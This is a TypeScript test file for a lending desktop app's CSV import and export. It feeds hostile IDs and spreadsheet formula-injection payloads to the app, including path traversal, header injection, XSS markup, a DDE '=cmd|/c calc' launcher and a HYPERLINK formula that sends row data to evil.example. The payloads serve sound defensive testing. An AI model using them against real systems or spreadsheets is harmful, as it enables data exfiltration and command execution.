import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { createConnectionInUse } from '../../electron/services/connections/connection-in-use.ts'
import { createFilesService } from '../../electron/services/files/files-service.ts'
import { previewIdFile, readIdFile } from '../../renderer/state/id-file.ts'
import { applicationIdPattern } from '../../shared/values/ids.ts'
import { applicationFromWire } from '../../shared/domain/wire/application.ts'
import { ok } from '../../shared/result.ts'
import { aConnection } from '../support/builders/connections.ts'
import { HastyClock } from '../support/fakes/hasty-clock.ts'
import { aCacheStore, aDeskStore } from '../support/stores/test-stores.ts'
import { RecordingNotifier } from '../support/fakes/recorders.ts'
import { given } from '../support/checks/given.ts'

/*
 * The attack: a broker emails the officer "this week's applications.csv". Some of its IDs are
 * crafted to redirect the request for them ("app_1/../../token"), to look like other IDs (a
 * Cyrillic letter, a character that reverses the line), to name an object's prototype, or to hang
 * the window (an unclosed quotation mark, one endless line). The same broker has entered
 * =HYPERLINK("https://evil.example/"&A2) as the merchant of an application and waits for the
 * officer to export the worklist and open it in a spreadsheet: the formula would send the adjacent
 * row to the attacker, or start a program.
 *
 * Only IDs may be imported, each skipped entry is named by its line and shown harmlessly, and no
 * exported cell may start a formula, whichever separator the spreadsheet uses.
 */

const watch = {
  onProgress: () => undefined,
  isCanceled: () => false,
  pause: () => Promise.resolve(),
}

async function read(text: string) {
  const file = new Blob([text])
  const preview = await previewIdFile(file, watch)
  if (!preview.ok) return preview
  return readIdFile(file, preview.value, preview.value.guess, watch)
}

describe('a hostile CSV file on import', () => {
  it.each([
    ['a path to another endpoint', 'app_1/../../token'],
    ['a path of a Windows server', 'app_1\\..\\share'],
    ['a query', 'app_1?include=secrets'],
    ['a fragment', 'app_1#x'],
    ['an escaped slash', 'app_1%2F..%2Ftoken'],
    ['a header of the request', 'app_1\u000bHost: evil.example'],
    ['a letter of another alphabet', '\u0430pp_1'],
    ['full-width figures', 'app_１'],
    ['a line turned around', 'app_\u202e1'],
    ['a character without width', 'app_\u200b1'],
    ['markup', '<img src=x onerror=alert(1)>'],
    ['a formula', '=cmd|/c calc!A1'],
    ['a prototype', '__proto__'],
    ['a constructor', 'constructor'],
    ['an id without an end', `app_${'a'.repeat(100_000)}`],
  ])('imports no ID that contains or is %s', async (_story, hostile) => {
    const list = given(await read(`application_id\napp_good\n${hostile}\napp_fine\n`))
    expect(list.ids).toEqual(['app_good', 'app_fine'])
    expect(list.wrong.named).toMatchObject([{ line: 3 }])
    const shown = list.wrong.named[0]?.shown ?? ''
    expect(shown.length).toBeLessThan(120)
    expect(shown).not.toMatch(/\p{C}/u)
  })

  it('imports only IDs that fit into a URL path unchanged', async () => {
    const list = given(await read('id\napp_.\napp_..\napp_~\napp_1 app_2\n"app_3\n"\n'))
    for (const id of list.ids) {
      expect(id).toMatch(applicationIdPattern)
      expect(new URL(`/api/applications/${id}`, 'https://lender.example').pathname).toBe(
        `/api/applications/${id}`,
      )
    }
  })

  it.each([
    ['a quotation mark that is never closed', `"${'app_1\n'.repeat(500_000)}`],
    ['one endless line', 'app_'.repeat(1_000_000)],
    ['nothing but quotation marks', '"'.repeat(1_500_001)],
    ['quotation marks that close nothing', `"${'a"b'.repeat(500_000)}`],
    ['separators alone', ','.repeat(1_500_000)],
  ])('is rejected or imports no ID: %s', async (_story, text) => {
    const list = await read(text)
    expect(list.ok ? list.value.ids : list.error.code).toSatisfy(
      (outcome: unknown) =>
        (Array.isArray(outcome) && outcome.length === 0) ||
        outcome === 'list-quote-open' ||
        outcome === 'list-line-too-long',
    )
  })
})

const formulas = [
  '=HYPERLINK("https://evil.example/"&A2,"Open")',
  '+cmd|/c calc!A1',
  '-2+3+cmd|/c calc!A1',
  '@SUM(1+1)*cmd|/c calc!A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＠SUM(A1)',
  'Shop;=1+1',
  'Shop; "=1+1',
  'Shop\t=1+1',
  'Shop|@x',
  'Shop",=1+1,"',
  'Shop"\r\n=1+1',
]

/** Characters that start a formula in a spreadsheet. */
const beginsFormula = /^\s*[=+\-@＝＋－＠]/

describe('a CSV file on export', () => {
  it.each([
    ['a comma', ','],
    ['a semicolon', ';'],
    ['a tab', '\t'],
    ['a bar', '|'],
  ])('starts no formula if a spreadsheet uses %s as the separator', async (_story, delimiter) => {
    const connection = aConnection()
    const store = aDeskStore()
    const cache = aCacheStore()
    const inUse = createConnectionInUse(store)
    store.connections.put(connection)
    inUse.set(connection.id)
    for (const [number, formula] of formulas.entries()) {
      const id = `app_${String(number).padStart(2, '0')}`
      const application = applicationFromWire(
        { id, status: formula, third_party_disbursement_destination: formula },
        connection.unitsProfile,
      )
      if (!application.ok) throw new Error(application.error.code)
      cache.put(connection.id, id, application.value, 1)
    }
    let text = ''
    const files = createFilesService({
      saveLogged: async (_name, content) => {
        if (typeof content === 'string' || content instanceof Uint8Array) text = String(content)
        else for await (const piece of content) text += piece
        return ok({ where: '/exports/worklist.csv' })
      },
      printer: null,
      cache,
      inUse,
      notifier: new RecordingNotifier(),
      clock: new HastyClock(),
    })
    await files.saveWorklist({
      filter: {},
      sort: { by: 'id', direction: 'ascending' },
      columns: [
        { column: 'id', title: 'Id' },
        { column: 'status', title: '=1+1' },
        { column: 'merchant', title: 'Merchant' },
      ],
    })
    const rows = Papa.parse<string[]>(text, { delimiter }).data
    expect(rows.flat().filter((cell) => beginsFormula.test(cell))).toEqual([])
    if (delimiter !== ',') return
    // Parsed as CSV, nothing is lost except the apostrophes that keep a text from being a formula.
    const merchants = rows.slice(1, -1).map(([, , merchant = '']) => merchant.replaceAll("'", ''))
    expect(merchants).toEqual(formulas)
  })
})
